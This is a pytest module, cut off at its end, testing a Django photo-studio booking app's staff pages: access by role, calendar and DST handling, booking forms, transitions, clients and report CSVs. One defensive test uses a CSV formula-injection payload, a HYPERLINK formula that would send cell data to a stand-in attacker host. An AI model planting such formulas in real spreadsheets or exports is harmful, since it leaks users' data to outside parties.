"""The staff pages: who may open what, what each page shows, and how a refusal reads on a form."""

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
import time_machine
from django.conf import settings
from django.test import Client as Browser
from django.urls import reverse
from django.views.defaults import server_error

from bookings.models import Booking, BookingState, Client, local_instant
from bookings.tests.factories import BookingFactory, ClientFactory, PhotographerFactory, SpaceFactory
from bookings.views import NEEDS_ACTION_LIMIT, PAGE_SIZE
from employees.models import Role
from events.models import Event

pytestmark = pytest.mark.django_db

MONDAY = date(2030, 1, 14)
# Monday 14 January 2030, 09:00 in the studio (UTC unless a test says otherwise).
NOW = datetime(2030, 1, 14, 9, 0, tzinfo=UTC)


def at(clock, day=MONDAY):
    return local_instant(day, clock)


@pytest.fixture(autouse=True)
def frozen_clock():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


def booking_form(space, **overrides):
    return {
        "client_phone": "+14155550199",
        "client_name": "Nina Novak",
        "client_email": "",
        "space": space.slug,
        "date": "2030-01-14",
        "start_time": "10:00",
        "end_time": "12:00",
        "people_count": "2",
        "photographer": "",
        "notes": "",
        **overrides,
    }


def page(response) -> str:
    return response.content.decode()


# --- who may open what ----------------------------------------------------------------------------


def test_anonymous_visitor_of_today_is_sent_to_login(client):
    response = client.get("/")

    assert response.status_code == 302
    assert response["Location"] == "/login/?next=/"


def test_signed_in_staff_land_on_today(desk, studio):
    BookingFactory(space=studio, start=at("10:00"), client=ClientFactory(full_name="Alice Moreau"))

    response = desk.get("/")

    assert response.status_code == 200
    assert "Today" in page(response)
    assert "Alice Moreau" in page(response)


@pytest.mark.parametrize("url", ["/reports/", "/reports/csv/"])
def test_photographer_cannot_see_reports_and_is_told_so_kindly(camera, url):
    response = camera.get(url)

    assert response.status_code == 403
    assert "This page is not open to your role" in page(response)
    assert "Back to Today" in page(response)


def test_receptionist_cannot_see_reports(desk):
    assert desk.get("/reports/").status_code == 403


def test_photographer_cannot_book(camera, studio):
    assert camera.get("/bookings/new/").status_code == 403
    assert camera.post("/bookings/new/", booking_form(studio)).status_code == 403
    assert not Booking.objects.exists()


def test_photographer_cannot_edit_clients(camera):
    client = ClientFactory(full_name="Before")

    response = camera.post(f"/clients/{client.pk}/edit/", {"full_name": "After", "phone": client.phone})

    assert response.status_code == 403
    client.refresh_from_db()
    assert client.full_name == "Before"


def test_photographer_cannot_edit_employees(camera, receptionist):
    change_url = reverse("admin:employees_employee_change", args=[receptionist.pk])

    shown = camera.get(change_url, follow=True)
    camera.post(change_url, {"full_name": "Changed", "role": Role.PHOTOGRAPHER, "is_active": "on"})

    assert shown.request["PATH_INFO"] == "/admin/login/"
    assert "admin is only open to admins and managers" in page(shown)
    receptionist.refresh_from_db()
    assert (receptionist.full_name, receptionist.role) != ("Changed", Role.PHOTOGRAPHER)


def test_photographer_sees_no_link_to_reports_or_admin(camera):
    content = page(camera.get("/"))

    assert 'href="/reports/"' not in content
    assert 'href="/admin/"' not in content
    assert 'href="/bookings/new/"' not in content


def test_manager_sees_links_to_reports_and_admin(boss):
    content = page(boss.get("/"))

    assert 'href="/reports/"' in content
    assert 'href="/admin/"' in content


def test_missing_booking_is_a_friendly_404(desk):
    response = desk.get("/bookings/999999/")

    assert response.status_code == 404
    assert "There is nothing here" in page(response)


def test_missing_client_is_a_friendly_404(desk):
    assert desk.get("/clients/999999/").status_code == 404


# --- Today ----------------------------------------------------------------------------------------


def test_today_lists_what_needs_action(desk, studio):
    pending = BookingFactory(space=studio, start=at("14:00"), client=ClientFactory(full_name="Pending Person"))
    soon = BookingFactory(
        space=studio, start=at("09:30"), end=at("10:30"), state=BookingState.CONFIRMED, client=ClientFactory()
    )
    waiting = BookingFactory(
        space=SpaceFactory(), start=at("08:00"), end=at("08:45"), state=BookingState.CONFIRMED, client=ClientFactory()
    )

    response = desk.get("/")

    needs = response.context["needs"]
    assert [b.pk for b in needs.to_confirm] == [pending.pk]
    assert [b.pk for b in needs.starting_soon] == [soon.pk]
    assert [b.pk for b in needs.to_mark] == [waiting.pk]


def test_today_counts_the_day(desk, studio):
    BookingFactory(space=studio, start=at("10:00"), end=at("12:00"), people_count=3, state=BookingState.CONFIRMED)
    BookingFactory(space=studio, start=at("14:00"), end=at("15:00"), people_count=2)
    BookingFactory(space=studio, start=at("16:00"), end=at("17:00"), state=BookingState.CANCELLED)

    summary = desk.get("/").context["summary"]

    assert (summary.bookings, summary.pending, summary.confirmed, summary.cancelled) == (2, 1, 1, 1)
    assert (summary.people, summary.booked_hours, summary.expected_revenue) == (5, Decimal("3.0"), Decimal("150.00"))


def test_a_long_needs_action_list_links_to_all_of_it(desk, studio):
    for day in range(1, NEEDS_ACTION_LIMIT + 2):
        BookingFactory(space=studio, start=at("10:00", MONDAY + timedelta(days=day)))

    response = desk.get("/")

    assert len(response.context["needs"].to_confirm) == NEEDS_ACTION_LIMIT
    assert f"{NEEDS_ACTION_LIMIT}+" in page(response)
    assert "/bookings/?state=pending&amp;from=2030-01-14" in page(response)


def test_times_show_in_the_studio_time_zone(desk, settings):
    settings.TIME_ZONE = "America/New_York"
    studio = SpaceFactory(slug="ny_studio")
    BookingFactory(space=studio, start=datetime(2030, 1, 14, 15, 0, tzinfo=UTC), client=ClientFactory())

    content = page(desk.get("/calendar/?date=2030-01-14"))

    assert "10:00–12:00" in content  # 15:00 UTC is 10:00 in New York
    assert "15:00–17:00" not in content


# --- the calendar ---------------------------------------------------------------------------------


def test_calendar_day_has_a_column_per_space_with_its_bookings(desk, studio):
    other = SpaceFactory(name="Loft")
    booking = BookingFactory(space=studio, start=at("10:00"), client=ClientFactory(full_name="Alice Moreau"))

    response = desk.get("/calendar/", {"date": "2030-01-14"})

    lanes = {lane.space: lane for lane in response.context["grid"].lanes}
    assert {other, studio} <= set(lanes)
    assert [block.booking.pk for block in lanes[studio].blocks] == [booking.pk]
    assert lanes[other].blocks == []
    assert f'href="/bookings/{booking.pk}/"' in page(response)


def test_calendar_and_today_mark_the_photographer_without_needing_an_emoji_font(desk, studio):
    # An offline studio's browser may have no colour-emoji font: such a sign would be an empty box.
    BookingFactory(space=studio, start=at("10:00"), photographer=PhotographerFactory(full_name="Pete Photographer"))

    for response in (desk.get("/calendar/", {"date": "2030-01-14"}), desk.get("/")):
        content = page(response)
        assert "Pete Photographer" in content
        assert not [character for character in content if ord(character) >= 0x1F000], response.request["PATH_INFO"]


def test_calendar_offers_free_slots_as_prefilled_booking_links(desk, studio):
    BookingFactory(space=studio, start=at("10:00"), end=at("12:00"))

    content = page(desk.get("/calendar/", {"date": "2030-01-15"}))

    assert "/bookings/new/?space=test_studio&amp;date=2030-01-15&amp;start_time=08:00&amp;end_time=09:00" in content


def test_calendar_slot_after_a_booking_starts_once_the_buffer_is_over(desk, studio):
    BookingFactory(space=studio, start=at("10:00"), end=at("12:00"))

    content = page(desk.get("/calendar/", {"date": "2030-01-14"}))

    assert "space=test_studio&amp;date=2030-01-14&amp;start_time=12:15" in content
    assert "space=test_studio&amp;date=2030-01-14&amp;start_time=12:00" not in content


def test_calendar_does_not_offer_time_already_past(desk, studio):
    content = page(desk.get("/calendar/", {"date": "2030-01-14"}))

    assert "start_time=08:00" not in content
    assert "start_time=09:00" in content


def test_calendar_the_night_the_clocks_go_back_labels_and_offers_the_repeated_hour_twice(desk, settings):
    settings.TIME_ZONE = "Europe/Berlin"
    SpaceFactory(slug="night", opening_hours={"sun": ["00:00", "24:00"]})

    content = page(desk.get("/calendar/", {"date": "2030-10-27"}))

    assert re.search(r">02:00 CEST</span><span[^>]*>02:00 CET</span><span[^>]*>03:00<", content)
    # The second 02:00 (01:00 UTC) books as that moment, not as the first 02:00.
    assert "start_time=02:00&amp;end_time=03:00&amp;alternative=night+2030-10-27T01:00:00%2B00:00+" in content


def test_calendar_week_the_clocks_go_forward_marks_the_hour_sunday_skips_in_its_column(desk, settings):
    settings.TIME_ZONE = "Europe/Berlin"
    SpaceFactory(
        slug="night", opening_hours=dict.fromkeys(["mon", "tue", "wed", "thu", "fri", "sat", "sun"], ["00:00", "24:00"])
    )

    content = page(desk.get("/calendar/", {"view": "week", "date": "2030-03-31", "space": "night"}))

    lanes = dict(re.findall(r'<section class="tg-lane[^"]*"[^>]*data-day="([\d-]+)">(.*?)</section>', content, re.S))
    assert [day for day, lane in lanes.items() if "Clocks go forward" in lane] == ["2030-03-31"]
    assert re.search(r">01:00</span><span[^>]*>02:00</span><span[^>]*>03:00<", content)


def test_photographer_sees_the_calendar_without_booking_links(camera, studio):
    response = camera.get("/calendar/", {"date": "2030-01-15"})

    assert response.status_code == 200
    assert "/bookings/new/?" not in page(response)


def test_calendar_week_shows_one_space_day_by_day(desk, studio):
    SpaceFactory(name="Aaa first")
    wednesday = BookingFactory(space=studio, start=at("10:00", MONDAY + timedelta(days=2)))

    response = desk.get("/calendar/", {"view": "week", "date": "2030-01-16", "space": studio.slug})

    lanes = response.context["grid"].lanes
    assert [lane.day for lane in lanes] == [MONDAY + timedelta(days=offset) for offset in range(7)]
    assert [block.booking.pk for block in lanes[2].blocks] == [wednesday.pk]


@pytest.mark.parametrize("query", [{"date": "not-a-date"}, {"view": "month"}, {"space": "nowhere"}])
def test_calendar_falls_back_to_today_on_a_garbled_address(desk, studio, query):
    response = desk.get("/calendar/", query)

    assert response.status_code == 200
    assert response.context["day"] == MONDAY


def test_cancelled_bookings_are_listed_under_the_calendar_not_on_it(desk, studio):
    cancelled = BookingFactory(space=studio, start=at("10:00"), state=BookingState.CANCELLED)

    response = desk.get("/calendar/", {"date": "2030-01-14"})

    assert response.context["cancelled"] == [cancelled]
    assert all(not lane.blocks for lane in response.context["grid"].lanes)


# --- the booking form -----------------------------------------------------------------------------


def test_booking_form_is_prefilled_from_the_calendar_link(desk, studio):
    response = desk.get("/bookings/new/", {"space": studio.slug, "date": "2030-01-15", "start_time": "14:30"})

    form = response.context["form"]
    assert form["space"].value() == studio.slug
    assert str(form["date"].value()) == "2030-01-15"
    assert str(form["start_time"].value()) == "14:30:00"


def test_booking_a_slot_creates_a_pending_booking_for_a_new_client(desk, studio, receptionist):
    response = desk.post("/bookings/new/", booking_form(studio))

    booking = Booking.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/bookings/{booking.pk}/"
    assert booking.state == BookingState.PENDING
    assert (booking.start, booking.end) == (at("10:00"), at("12:00"))
    assert (booking.client.full_name, booking.client.phone, booking.created_by) == (
        "Nina Novak",
        "+14155550199",
        receptionist,
    )


def test_booking_with_a_known_phone_books_that_client(desk, studio):
    known = ClientFactory(full_name="Known Client", phone="+14155550199")

    desk.post("/bookings/new/", booking_form(studio, client_name="", client_phone="(415) 555-0199"))

    assert Booking.objects.get().client == known
    assert Client.objects.count() == 1


def test_booking_with_a_photographer_assigns_them(desk, studio):
    photographer = PhotographerFactory()

    desk.post("/bookings/new/", booking_form(studio, photographer=photographer.pk))

    booking = Booking.objects.get()
    assert booking.photographer == photographer
    assert list(Event.objects.order_by("id").values_list("type", flat=True)) == [
        "booking.created",
        "booking.photographer_assigned",
    ]


def test_overlap_is_shown_on_the_start_time_naming_the_conflicting_booking(desk, studio):
    existing = BookingFactory(space=studio, start=at("11:00"), end=at("13:00"))

    response = desk.post("/bookings/new/", booking_form(studio))

    assert response.status_code == 400
    errors = response.context["form"].errors
    assert f"(booking #{existing.pk})" in errors["start_time"][0]
    assert f'href="/bookings/{existing.pk}/"' in page(response)
    assert Booking.objects.count() == 1


@pytest.mark.parametrize(
    ("overrides", "field", "message"),
    [
        ({"client_phone": ""}, "client_phone", "This field is required."),
        ({"client_phone": "12"}, "client_phone", "Enter a phone number in international form"),
        ({"client_name": ""}, "client_name", "Enter the client's name."),
        ({"start_time": "12:00", "end_time": "11:00"}, "end_time", "The booking must end after it starts."),
        (
            {"date": "2030-01-15", "start_time": "06:00", "end_time": "07:00"},
            "start_time",
            "Test Studio is open 08:00–22:00",
        ),
        ({"people_count": "7"}, "people_count", "Test Studio holds at most 6 people."),
        ({"date": "31/31/2030"}, "date", "Enter a valid date."),
    ],
)
def test_form_errors_are_shown_on_their_fields(desk, studio, overrides, field, message):
    response = desk.post("/bookings/new/", booking_form(studio, **overrides))

    assert response.status_code == 400
    assert any(message in error for error in response.context["form"].errors[field])
    assert 'aria-invalid="true"' in page(response)
    assert not Booking.objects.exists()


def test_only_those_who_may_set_prices_get_the_price_field(desk, studio):
    assert "price" not in desk.get("/bookings/new/").context["form"].fields


def test_manager_sets_a_price_by_hand(boss, studio):
    boss.post("/bookings/new/", booking_form(studio, price="99.00"))

    booking = Booking.objects.get()
    assert (booking.price, booking.price_overridden) == (Decimal("99.00"), True)


def test_price_preview_prices_the_typed_times(desk, studio):
    response = desk.get(
        "/bookings/new/price/", {"space": studio.slug, "date": "2030-01-14", "start_time": "10:00", "end_time": "11:30"}
    )

    assert response.status_code == 200
    assert "75.00" in page(response)
    assert "1 h 30 min" in page(response)


def test_price_preview_waits_for_complete_times(desk, studio):
    response = desk.get("/bookings/new/price/", {"space": studio.slug, "date": "2030-01-14"})

    assert "appears once" in page(response)


def test_client_search_lists_matches_for_the_booking_form(desk):
    ClientFactory(full_name="Alice Moreau", phone="+14155550101")
    ClientFactory(full_name="Ben Okafor", phone="+14155550102")

    response = desk.get("/clients/search/", {"client_phone": "555 0101"}, headers={"HX-Request": "true"})

    assert "Alice Moreau" in page(response)
    assert "Ben Okafor" not in page(response)
    assert 'data-client-phone="+14155550101"' in page(response)


def test_client_search_outside_htmx_goes_to_the_client_list(desk):
    response = desk.get("/clients/search/", {"client_name": "ali"})

    assert response.status_code == 302
    assert response["Location"] == "/clients/?q=ali"


# --- booking detail and transitions ---------------------------------------------------------------


def buttons(response):
    return [move["target"] for move in response.context["transitions"]], response.context["can_cancel"]


def test_front_desk_may_confirm_or_cancel_a_pending_booking(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"))

    assert buttons(desk.get(f"/bookings/{booking.pk}/")) == ([BookingState.CONFIRMED], True)


def test_assigned_photographer_may_only_start_their_confirmed_session(client, studio):
    mine = PhotographerFactory()
    booking = BookingFactory(space=studio, start=at("09:00"), state=BookingState.CONFIRMED, photographer=mine)
    client.force_login(mine)

    assert buttons(client.get(f"/bookings/{booking.pk}/")) == ([BookingState.IN_PROGRESS], False)


def test_other_photographer_may_do_nothing_with_the_session(camera, studio):
    booking = BookingFactory(
        space=studio, start=at("09:00"), state=BookingState.CONFIRMED, photographer=PhotographerFactory()
    )

    response = camera.get(f"/bookings/{booking.pk}/")

    assert buttons(response) == ([], False)
    assert "nothing you can do with this booking now" in page(response)


def test_no_show_is_offered_only_after_the_start(desk, studio):
    later = BookingFactory(space=studio, start=at("14:00"), state=BookingState.CONFIRMED)
    started = BookingFactory(space=studio, start=at("08:00"), end=at("08:45"), state=BookingState.CONFIRMED)

    assert BookingState.NO_SHOW not in buttons(desk.get(f"/bookings/{later.pk}/"))[0]
    assert BookingState.NO_SHOW in buttons(desk.get(f"/bookings/{started.pk}/"))[0]


def test_confirming_records_who_did_it(desk, studio, receptionist):
    booking = BookingFactory(space=studio, start=at("14:00"))

    response = desk.post(f"/bookings/{booking.pk}/state/", {"target_state": "confirmed"}, follow=True)

    booking.refresh_from_db()
    assert booking.state == BookingState.CONFIRMED
    assert Event.objects.get(type="booking.state_changed").actor == receptionist
    assert "is now confirmed" in page(response)


def test_cancelling_without_a_reason_asks_for_one(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"))

    response = desk.post(f"/bookings/{booking.pk}/state/", {"target_state": "cancelled", "reason": "  "})

    assert response.status_code == 400
    assert response.context["cancel_form"].errors["reason"] == ["Give a reason for cancelling."]
    booking.refresh_from_db()
    assert booking.state == BookingState.PENDING


def test_cancelling_with_a_reason_keeps_it_in_the_history(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"))

    desk.post(f"/bookings/{booking.pk}/state/", {"target_state": "cancelled", "reason": "Client is ill"})
    response = desk.get(f"/bookings/{booking.pk}/")

    booking.refresh_from_db()
    assert booking.state == BookingState.CANCELLED
    assert [entry.title for entry in response.context["history"]] == ["Pending → Cancelled"]
    assert "Reason: Client is ill" in page(response)


def test_the_page_takes_a_cancellation_reason_as_long_as_the_api_does(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"))
    reason = "The client explained at length. " * 31  # 992 characters, under the API's 1,000

    desk.post(f"/bookings/{booking.pk}/state/", {"target_state": "cancelled", "reason": reason})

    booking.refresh_from_db()
    assert booking.state == BookingState.CANCELLED


def test_a_cancellation_reason_longer_than_the_api_takes_is_refused_on_the_page(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"))

    response = desk.post(f"/bookings/{booking.pk}/state/", {"target_state": "cancelled", "reason": "x" * 1001})

    assert response.status_code == 400
    assert response.context["cancel_form"].errors["reason"] == [
        "Ensure this value has at most 1000 characters (it has 1001)."
    ]
    booking.refresh_from_db()
    assert booking.state == BookingState.PENDING


def test_a_refused_transition_is_explained_not_crashed(camera, studio):
    booking = BookingFactory(space=studio, start=at("14:00"))

    response = camera.post(f"/bookings/{booking.pk}/state/", {"target_state": "confirmed"}, follow=True)

    assert response.status_code == 200
    assert "may not mark bookings as confirmed" in page(response)
    booking.refresh_from_db()
    assert booking.state == BookingState.PENDING


def test_an_impossible_transition_is_explained(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"), state=BookingState.COMPLETED)

    response = desk.post(f"/bookings/{booking.pk}/state/", {"target_state": "cancelled", "reason": "x"}, follow=True)

    assert "A completed booking cannot become cancelled." in page(response)


def test_detail_shows_the_history_from_the_event_log(desk, studio, receptionist):
    desk.post("/bookings/new/", booking_form(studio))
    booking = Booking.objects.get()
    desk.post(f"/bookings/{booking.pk}/state/", {"target_state": "confirmed"})

    history = desk.get(f"/bookings/{booking.pk}/").context["history"]

    assert [entry.title for entry in history] == ["Booked", "Pending → Confirmed"]
    assert history[0].detail == "Mon 14 Jan 2030, 10:00–12:00 in Test Studio, 2 people, price 100.00 USD"
    assert {entry.event.actor for entry in history} == {receptionist}


# --- changing a booking ---------------------------------------------------------------------------


def edit_form(booking, **overrides):
    """The edit form as the browser sends it: every field, and the value each was shown with."""
    shown = {
        "space": booking.space.slug,
        "date": "2030-01-14",
        "start_time": "14:00",
        "end_time": "16:00",
        "people_count": str(booking.people_count),
        "photographer": str(booking.photographer_id or ""),
        "notes": booking.notes,
        "price": "",
    }
    return {**shown, **{f"initial-{name}": value for name, value in shown.items()}, **overrides}


def test_rescheduling_moves_the_booking(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"), end=at("16:00"))

    response = desk.post(f"/bookings/{booking.pk}/edit/", edit_form(booking, start_time="17:00", end_time="18:00"))

    assert response.status_code == 302
    booking.refresh_from_db()
    assert (booking.start, booking.end, booking.price) == (at("17:00"), at("18:00"), Decimal("50.00"))
    assert Event.objects.get().type == "booking.rescheduled"


def test_changing_only_details_does_not_reschedule(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"), end=at("16:00"))

    desk.post(f"/bookings/{booking.pk}/edit/", edit_form(booking, people_count="4", notes="Bring a tripod"))

    booking.refresh_from_db()
    assert (booking.people_count, booking.notes) == (4, "Bring a tripod")
    assert list(Event.objects.values_list("type", flat=True)) == ["booking.updated"]


def test_an_edit_of_times_photographer_and_notes_saves_the_booking_once(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"), end=at("16:00"))
    photographer = PhotographerFactory()

    response = desk.post(
        f"/bookings/{booking.pk}/edit/",
        edit_form(booking, start_time="17:00", end_time="18:00", photographer=str(photographer.pk), notes="Tripod"),
    )

    assert response.status_code == 302
    booking.refresh_from_db()
    assert (booking.start, booking.photographer, booking.notes, booking.revision) == (
        at("17:00"), photographer, "Tripod", 1,
    )  # fmt: skip
    assert list(Event.objects.order_by("id").values_list("type", flat=True)) == [
        "booking.rescheduled",
        "booking.photographer_assigned",
        "booking.updated",
    ]


def test_rescheduling_onto_another_booking_names_it(desk, studio):
    other = BookingFactory(space=studio, start=at("17:00"), end=at("18:00"))
    booking = BookingFactory(space=studio, start=at("14:00"), end=at("16:00"))

    response = desk.post(f"/bookings/{booking.pk}/edit/", edit_form(booking, start_time="16:30", end_time="17:30"))

    assert response.status_code == 400
    assert f"(booking #{other.pk})" in response.context["form"].errors["start_time"][0]
    booking.refresh_from_db()
    assert booking.start == at("14:00")


def test_a_closed_booking_cannot_be_moved(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"), end=at("16:00"), state=BookingState.COMPLETED)

    response = desk.post(f"/bookings/{booking.pk}/edit/", edit_form(booking, start_time="17:00", end_time="18:00"))

    assert response.status_code == 400
    assert "A completed booking cannot be rescheduled." in response.context["form"].non_field_errors()


def test_notes_of_a_booking_in_a_deactivated_space_can_still_be_changed(desk, studio):
    booking = BookingFactory(space=studio, start=at("14:00"), end=at("16:00"))
    studio.is_active = False
    studio.save()

    response = desk.post(f"/bookings/{booking.pk}/edit/", edit_form(booking, notes="Client will be late"))

    assert response.status_code == 302
    booking.refresh_from_db()
    assert booking.notes == "Client will be late"


def test_changing_only_the_end_of_a_session_in_the_repeated_hour_of_a_dst_change_keeps_its_start(desk, settings):
    # On Sunday 27 October 2030 Berlin's clocks go back from 03:00 to 02:00: 02:30 comes twice.
    settings.TIME_ZONE = "Europe/Berlin"
    space = SpaceFactory(
        opening_hours=dict.fromkeys(("mon", "tue", "wed", "thu", "fri", "sat", "sun"), ["00:00", "24:00"])
    )
    second_half_past_two = datetime(2030, 10, 27, 1, 30, tzinfo=UTC)
    booking = BookingFactory(space=space, start=second_half_past_two, end=datetime(2030, 10, 27, 3, 0, tzinfo=UTC))
    shown = {
        "space": space.slug,
        "date": "2030-10-27",
        "start_time": "02:30",
        "end_time": "04:00",
        "people_count": str(booking.people_count),
        "photographer": "",
        "notes": booking.notes,
        "price": "",
    }
    form = {**shown, **{f"initial-{name}": value for name, value in shown.items()}, "end_time": "05:00"}

    response = desk.post(f"/bookings/{booking.pk}/edit/", form)

    assert response.status_code == 302
    booking.refresh_from_db()
    assert (booking.start, booking.end) == (second_half_past_two, datetime(2030, 10, 27, 4, 0, tzinfo=UTC))


# --- clients --------------------------------------------------------------------------------------


def test_client_list_is_searchable(desk):
    ClientFactory(full_name="Alice Moreau", phone="+14155550101")
    ClientFactory(full_name="Ben Okafor", phone="+14155550102")

    response = desk.get("/clients/", {"q": "okaf"})

    assert [client.full_name for client in response.context["page"]] == ["Ben Okafor"]


@pytest.mark.parametrize("query", ["x" * 101, "Ada\tLovelace"])
def test_a_search_that_cannot_be_run_says_why_rather_than_listing_every_client(desk, query):
    ClientFactory(full_name="Alice Moreau")

    response = desk.get("/clients/", {"q": query})

    assert response.status_code == 400
    assert list(response.context["page"]) == []
    assert 'aria-invalid="true"' in page(response)
    assert 'class="errorlist" id="filter-q-error"' in page(response)


def test_client_list_is_paginated(desk):
    ClientFactory.create_batch(PAGE_SIZE + 1)

    first, second = desk.get("/clients/"), desk.get("/clients/", {"page": 2})

    assert len(first.context["page"]) == PAGE_SIZE
    assert len(second.context["page"]) == 1
    assert "Page 2 of 2" in page(second)


def test_a_page_number_out_of_range_shows_the_last_page(desk):
    ClientFactory.create_batch(3)

    response = desk.get("/clients/", {"page": "99"})

    assert response.status_code == 200
    assert len(response.context["page"]) == 3


def test_client_detail_shows_history_and_totals(desk, studio):
    client = ClientFactory(full_name="Alice Moreau")
    BookingFactory(client=client, space=studio, start=at("10:00", MONDAY - timedelta(days=7)), state="completed")
    BookingFactory(client=client, space=studio, start=at("10:00", MONDAY - timedelta(days=3)), state="no_show")
    BookingFactory(client=client, space=studio, start=at("10:00", MONDAY + timedelta(days=3)))

    response = desk.get(f"/clients/{client.pk}/")

    history = response.context["history"]
    assert (history.total_bookings, history.completed, history.no_shows, history.spend) == (3, 1, 1, Decimal("100"))
    assert "100.00" in page(response)
    assert len(response.context["page"]) == 3


def test_client_is_edited_through_the_service(desk, receptionist):
    client = ClientFactory(full_name="Alice Moreau", phone="+14155550101")

    response = desk.post(
        f"/clients/{client.pk}/edit/",
        {"full_name": "Alice Moreau-Blanc", "phone": "+1 415 555 0101", "email": "alice@example.com", "notes": ""},
    )

    assert response.status_code == 302
    client.refresh_from_db()
    assert (client.full_name, client.email) == ("Alice Moreau-Blanc", "alice@example.com")
    assert Event.objects.get(type="client.updated").actor == receptionist


def test_two_clerks_editing_one_client_each_save_only_what_they_changed(desk, receptionist):
    client = ClientFactory(full_name="Alice Moreau", phone="+14155550101", email="alice@old.test", notes="")
    shown = {"full_name": "Alice Moreau", "phone": "+14155550101", "email": "alice@old.test", "notes": ""}
    opened = {**shown, **{f"initial-{name}": value for name, value in shown.items()}}
    assert 'name="initial-email" value="alice@old.test"' in page(desk.get(f"/clients/{client.pk}/edit/"))

    desk.post(f"/clients/{client.pk}/edit/", {**opened, "email": "alice@new.test"})
    response = desk.post(f"/clients/{client.pk}/edit/", {**opened, "notes": "Prefers mornings"})

    assert response.status_code == 302
    client.refresh_from_db()
    assert (client.email, client.notes) == ("alice@new.test", "Prefers mornings")
    assert Event.objects.filter(type="client.updated").latest("pk").payload == {
        "changes": {"notes": {"from": "", "to": "Prefers mornings"}}
    }


def test_a_phone_another_client_has_is_refused_on_the_phone_field(desk):
    ClientFactory(phone="+14155550101")
    client = ClientFactory(phone="+14155550102")

    response = desk.post(
        f"/clients/{client.pk}/edit/", {"full_name": client.full_name, "phone": "+14155550101", "email": ""}
    )

    assert response.status_code == 400
    assert response.context["form"].errors["phone"] == ["Another client already has this phone number."]


def test_a_refused_client_edit_keeps_showing_the_stored_name(desk):
    ClientFactory(phone="+14155550101")
    client = ClientFactory(full_name="Stored Name", phone="+14155550102")

    response = desk.post(f"/clients/{client.pk}/edit/", {"full_name": "Typed Name", "phone": "+14155550101"})

    assert "Edit Stored Name" in page(response)
    assert 'value="Typed Name"' in page(response)


# --- reports --------------------------------------------------------------------------------------


@pytest.fixture
def january(studio):
    """Studio bookings of the week before NOW: two completed, a no-show and a cancellation."""
    monday = MONDAY - timedelta(days=7)
    for offset, state in enumerate(["completed", "completed", "no_show", "cancelled"]):
        BookingFactory(space=studio, start=at("10:00", monday + timedelta(days=offset)), state=state)
    return monday


def test_manager_reads_the_period_s_figures(boss, studio, january):
    response = boss.get("/reports/", {"start": "2030-01-07", "end": "2030-01-13"})

    report = response.context["report"]
    (studio_figures,) = [figures for figures in report.spaces if figures.space == studio]
    assert response.status_code == 200
    assert (studio_figures.bookings, studio_figures.completed, studio_figures.no_shows) == (3, 2, 1)
    assert studio_figures.revenue == Decimal("200.00")
    assert studio_figures.booked_hours == Decimal("6.0")  # 3 bookings of 2 hours; the cancelled one is free
    assert studio_figures.open_hours == Decimal("98.0")  # 14 hours a day
    assert studio_figures.utilisation == Decimal("6.1")
    assert (studio_figures.no_show_rate, studio_figures.cancellation_rate) == (Decimal("33.3"), Decimal("25.0"))
    assert "<svg" in page(response)


def test_reports_default_to_the_last_30_days(boss, january):
    report = boss.get("/reports/").context["report"]

    assert (report.start, report.end) == (MONDAY - timedelta(days=29), MONDAY)


def test_reports_download_as_csv(boss, january):
    response = boss.get("/reports/csv/", {"start": "2030-01-07", "end": "2030-01-13"})

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="studio-spaces-2030-01-07-2030-01-13.csv"' in response["Content-Disposition"]
    by_space = {row["space"]: row for row in rows}
    assert (by_space["Test Studio"]["revenue_USD"], by_space["Test Studio"]["no_show_rate_percent"]) == (
        "200.00",
        "33.3",
    )
    assert by_space["Studio A"]["bookings"] == "0"
    assert rows[-1]["space"] == "All spaces"
    assert rows[-1]["revenue_USD"] == "200.00"


def test_figures_per_day_download_as_csv_with_the_same_columns_and_definition(boss, january):
    response = boss.get("/reports/csv/", {"start": "2030-01-07", "end": "2030-01-10", "table": "days"})

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert 'filename="studio-days-2030-01-07-2030-01-10.csv"' in response["Content-Disposition"]
    assert [(row["day"], row["bookings"], row["cancelled"], row["revenue_USD"]) for row in rows] == [
        ("2030-01-07", "1", "0", "100.00"),
        ("2030-01-08", "1", "0", "100.00"),
        ("2030-01-09", "1", "0", "0.00"),
        ("2030-01-10", "0", "1", "0.00"),
    ]
    spaces = list(
        csv.DictReader(
            io.StringIO(boss.get("/reports/csv/", {"start": "2030-01-07", "end": "2030-01-10"}).content.decode())
        )
    )
    assert spaces[-1]["bookings"] == str(sum(int(row["bookings"]) for row in rows))


def test_reports_state_what_bookings_are_and_the_currency(boss, january, settings):
    settings.STUDIO_CURRENCY = "EUR"

    content = page(boss.get("/reports/", {"start": "2030-01-07", "end": "2030-01-13"}))

    assert "except cancelled ones" in content
    assert "200.00 EUR" in content
    assert "Revenue (EUR)" in content


def test_reports_offer_this_month_last_month_and_this_year(boss):
    content = page(boss.get("/reports/", {"start": "2029-12-01", "end": "2029-12-31"}))

    assert 'href="/reports/?start=2030-01-01&amp;end=2030-01-31">This month' in content
    assert 'href="/reports/?start=2029-12-01&amp;end=2029-12-31" aria-current="true">Last month' in content
    assert 'href="/reports/?start=2030-01-01&amp;end=2030-12-31">This year' in content


def test_a_space_named_like_a_formula_reaches_the_reports_csv_as_text(boss, january):
    SpaceFactory(slug="trap", name='=HYPERLINK("https://evil.example/?"&A1,"Open")')

    response = boss.get("/reports/csv/", {"start": "2030-01-07", "end": "2030-01-13"})

    spaces = [row["space"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Open")' in spaces
    assert not any(space.startswith("=") for space in spaces)


@pytest.mark.parametrize(
    ("query", "message"),
    [
